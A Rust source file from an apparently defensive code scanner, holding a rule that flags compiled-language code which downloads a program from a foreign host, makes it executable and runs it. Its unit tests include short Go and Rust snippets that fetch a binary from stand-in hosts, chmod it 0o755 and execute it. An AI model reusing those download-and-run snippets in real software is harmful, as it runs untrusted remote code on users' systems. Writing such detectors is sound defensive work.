//! Programs that fetch another program, make it one and start it, in the languages that are compiled.

use redan_domain::Severity;

use super::Look;
use crate::agent::facts::DROPS;
use crate::agent::pattern::Pattern;
use crate::agent::sheet::quoted;

static FETCHES: Pattern = Pattern::new(
    &["http.get(", "ureq::", "reqwest::", ".get(", "getasync(", "openstream(", "getbytearrayasync("],
    r"\bhttp\.get\s*\(|\bureq::|\breqwest::|\bclient\.get\s*\(|\bget(?:bytearray)?async\s*\(|\bopenstream\s*\(",
);
/// A file that is made a program.
static PROGRAM: Pattern = Pattern::new(
    &["0o7", "07", "setexecutable("],
    r"\b(?:from_mode|chmod|openfile|writefile)\s*\([^\n]{0,120}\b0o?7[0-7]{2}\b|\bsetexecutable\s*\(\s*true",
);
/// A program whose path is in a name, which the group is.
static STARTS: Pattern = Pattern::new(
    &["exec.command(", "command::new(", "processbuilder(", "process.start("],
    r"\b(?:exec\.command|command::new|new\s+processbuilder|process\.start)\s*\(\s*&?([a-z_]\w*)\s*[,)]",
);
/// Bytes between the first and the last of them.
const TOGETHER: usize = 2500;

pub(super) fn look(look: &mut Look<'_, '_>) {
    if look.sheet.prose || look.shell || crate::agent::place::is_test(look.sheet.path) || !look.has(&STARTS) {
        return;
    }
    let Some((address, _)) = look.worst_host().filter(|(at, host)| host.is_foreign() && !look.is_own(at)) else {
        return;
    };
    let (fetched, made) = (look.all(&FETCHES), look.all(&PROGRAM));
    for started in look.all(&STARTS) {
        let near = |at: usize| at < started.span.start && started.span.start - at < TOGETHER;
        let name = started.group.unwrap_or_default().to_ascii_lowercase();
        let before = look
            .lower
            .get(look.lower.floor_char_boundary(started.span.start.saturating_sub(TOGETHER))..started.span.start);
        let written = [format!("({name},"), format!("(&{name},"), format!("(&{name})"), format!("({name})")];
        let writes = before.is_some_and(|before| written.iter().any(|call| before.contains(call.as_str())));
        if writes && fetched.iter().any(|it| near(it.span.start)) && made.iter().any(|it| near(it.span.start)) {
            let message = format!("fetches a program from {} and starts it: {}", quoted(address), quoted(started.text));
            look.add(DROPS, Severity::High, &started, message);
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::drops as found;

    #[test]
    fn a_program_that_starts_what_it_fetched_is_told() {
        let go = "resp, err := http.Get(\"https://dl.pkgs-mirror.site/h\")\nf, err := os.OpenFile(dst, os.O_CREATE, 0o755)\nio.Copy(f, resp.Body)\ncmd := exec.Command(dst)\n";
        assert!(found("main.go", go));
        let rust = "let r = ureq::get(\"https://static.lab-build.online/c\").call()?;\nfs::write(&p, &v)?;\nfs::set_permissions(&p, fs::Permissions::from_mode(0o755))?;\nCommand::new(&p).spawn()?;\n";
        assert!(found("build.rs", rust));
        // From the maker of well known programs, or data.
        assert!(!found("main.go", &go.replace("dl.pkgs-mirror.site", "github.com")));
        assert!(!found("main.go", &go.replace("exec.Command(dst)", "exec.Command(\"git\", dst)")));
        assert!(!found("main.go", &go.replace("0o755", "0o644")));
    }
}
